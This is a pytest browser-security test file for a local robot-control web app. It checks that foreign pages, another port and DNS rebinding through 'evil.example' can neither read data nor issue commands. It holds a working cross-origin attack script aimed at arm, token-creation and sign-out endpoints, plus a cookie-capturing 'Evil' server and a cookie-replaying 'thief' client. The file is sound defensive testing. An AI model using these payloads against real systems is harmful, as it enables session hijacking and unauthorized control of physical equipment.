"""Pages of other origins in a signed-in browser: they read nothing and change nothing.

Another port of 127.0.0.1 is the same site to a browser, so that it sends the strict cookie along: there the
server alone stands in the way. A foreign name that leads to this computer is DNS rebinding.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, StorageState

from tests.browser.chromium import ARGUMENTS, HEADLESS_SHELL
from tests.pages.dive_site import DiveSite
from tests.waiting import SECONDS

FOREIGN = "evil.example"
ATTACKS = """async (target) => {
  const results = {}
  const settle = async (name, promise) => {
    try { results[name] = await promise } catch (problem) { results[name] = 'refused' }
  }
  const json = { 'content-type': 'application/json' }
  const asked = { '/api/robot': null, '/api/sessions': { name: 'evil' }, '/api/robot/commands/arm': {},
    '/api/access/tokens': { name: 'evil', scope: 'administer' }, '/api/control/take': {} }
  for (const [path, body] of Object.entries(asked)) {
    const request = body === null ? {} : { method: 'POST', body: JSON.stringify(body) }
    const cors = { ...request, credentials: 'include', headers: body === null ? {} : json }
    await settle('cors ' + path, fetch(target + path, cors).then((answer) => answer.text()))
    const blind = { ...request, credentials: 'include', mode: 'no-cors' }
    await settle('no-cors ' + path, fetch(target + path, blind)
      .then(async (answer) => answer.type === 'opaque' ? 'refused' : await answer.text()))
    if (body !== null) navigator.sendBeacon(target + path, new Blob([request.body], { type: 'text/plain' }))
  }
  const commands = '/api/robot/commands/'
  await settle('set points', fetch(target + commands + 'parameters', { method: 'POST', credentials: 'include',
    headers: { ...json, 'x-mucat': 'page' }, body: '{"values": {"control.set_point": 7.5}}' })
    .then((answer) => answer.text()))
  await settle('socket', new Promise((resolve, reject) => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/api/live')
    socket.onopen = () => resolve('open')
    socket.onerror = reject
    socket.onclose = reject
  }))
  const load = (tag, name, path) => settle(name, new Promise((resolve, reject) => {
    const element = document.createElement(tag)
    element.onload = () => resolve('loaded')
    element.onerror = reject
    element.src = target + path
    document.body.append(element)
  }))
  await load('img', 'image', '/favicon.svg')
  await load('script', 'script', '/api/robot')
  await settle('events', new Promise((resolve, reject) => {
    const source = new EventSource(target + '/api/robot', { withCredentials: true })
    source.onopen = () => resolve('open')
    source.onerror = reject
  }))
  const frame = document.createElement('iframe')
  frame.name = 'framed'
  frame.src = target + '/'
  document.body.append(frame)
  await new Promise((resolve) => { frame.onload = resolve })
  for (const [path, name, value] of [['/api/sessions', '{"name": "evil', '"}'], [commands + 'arm', 'a', 'b'],
      ['/api/access/sign-out', 'a', 'b']]) {
    const answered = document.createElement('iframe')
    answered.name = 'answer' + path
    document.body.append(answered)
    const form = document.createElement('form')
    Object.assign(form, { action: target + path, method: 'POST', target: answered.name })
    form.enctype = 'text/plain'
    const input = document.createElement('input')
    Object.assign(input, { name, value })
    form.append(input)
    document.body.append(form)
    const done = new Promise((resolve) => { answered.onload = resolve })
    form.submit()
    await done
  }
  return results
}"""


ROBOT = """() => fetch('/api/robot', { headers: { 'X-Mucat': localStorage.getItem('mucat.page_secret') } })
  .then((answer) => answer.status)"""


class Evil(BaseHTTPRequestHandler):
    """A foreign page, whose server keeps the cookies that browsers send it."""

    cookies = ""

    def do_GET(self) -> None:
        Evil.cookies = self.headers.get("cookie", "")
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title><body>")

    def log_message(self, format: str, *_: Any) -> None:  # noqa: A002 - its name there
        """Suppress the log."""


@pytest.fixture
def evil_port() -> Iterator[int]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


@pytest.fixture
def victim(browser: Browser, cookies: StorageState) -> Iterator[BrowserContext]:
    """A signed-in browser, in a network whose names an attacker controls."""
    rules = f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1"
    other = browser.browser_type.launch(executable_path=HEADLESS_SHELL, args=[*ARGUMENTS, rules])
    yield other.new_context(storage_state=cookies)
    other.close()


def snapshot(site: DiveSite) -> dict[str, Any]:
    """Return the state that an attack might change, and the commands that have come to the robot."""
    results: dict[str, Any] = {"commands": site.commands}
    for path in ("/sessions", "/exports", "/scenarios", "/comm-tests/runs"):
        results[path] = [str(entry.get("id", entry.get("name"))) for entry in site.api.get(path).json()]
    devices = site.api.get("/access/devices").json()
    return results | {"devices": [(device["id"], device["name"], device["role"]) for device in devices]}


def attack(page: Page, target: str) -> dict[str, str]:
    """Try all attacks; return the results, without the refused ones."""
    results: dict[str, str] = page.evaluate(ATTACKS, target)
    framed = page.frame("framed")
    assert framed is not None
    assert framed.url.startswith("chrome-error:"), "the page lets itself be framed"
    return {name: what for name, what in results.items() if what != "refused"}


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", FOREIGN])
def test_a_foreign_page_gets_no_data(
    victim: BrowserContext, site: DiveSite, evil_port: int, name: str
) -> None:
    own = victim.new_page()
    own.goto(site.url)
    assert own.evaluate(ROBOT) == 200, "it is not signed in"
    before = snapshot(site)
    page = victim.new_page()
    changed: list[str] = []
    page.on(
        "response",
        lambda response: changed.append(f"{response.request.method} {response.url} {response.status}"),
    )
    page.goto(f"http://{name}:{evil_port}/")
    assert attack(page, site.url) == {}
    posts = [request for request in changed if request.startswith(("POST", "PUT"))]
    assert posts
    assert all(post.endswith((" 401", " 403")) for post in posts), posts
    assert snapshot(site) == before
    assert own.evaluate(ROBOT) == 200, "it was signed out"


def test_a_server_of_another_port_can_do_nothing_with_the_cookie_that_it_gets(
    victim: BrowserContext, site: DiveSite, evil_port: int
) -> None:
    before = snapshot(site)
    victim.new_page().goto(f"http://127.0.0.1:{evil_port}/")
    assert f"mucat_{site.port}=" in Evil.cookies
    headers = {"cookie": Evil.cookies, "origin": site.url}
    with httpx.Client(base_url=f"{site.url}/api", headers=headers, timeout=SECONDS) as thief:
        for made_up in ({}, {"x-mucat": ""}, {"x-mucat": "page"}):
            thief.headers.update(made_up)
            for path in ("/robot", "/sessions", "/audit/csv", "/backup", "/access/devices"):
                assert thief.get(path).status_code == 401, path
            for path in ("/robot/commands/arm", "/access/codes", "/access/sign-out", "/control/take"):
                assert thief.post(path, json={}).status_code == 401, path
            assert thief.get("/access/me").json()["signed_in"] is False
    assert snapshot(site) == before


def test_a_foreign_host_name_is_refused(victim: BrowserContext, site: DiveSite) -> None:
    page = victim.new_page()
    answer = page.goto(f"http://{FOREIGN}:{site.port}/")
    assert answer is not None
    assert answer.status == 403
    status = "(path) => fetch(path, {headers: {'x-mucat': 'page'}}).then((answer) => answer.status)"
    assert [page.evaluate(status, path) for path in ("/api/robot", "/api/access/me", "/")] == [403] * 3
    opened = """() => new Promise((resolve) => {
      const socket = new WebSocket('ws://' + location.host + '/api/live')
      socket.onopen = () => resolve(true)
      socket.onerror = () => resolve(false)
    })"""
    assert page.evaluate(opened) is False
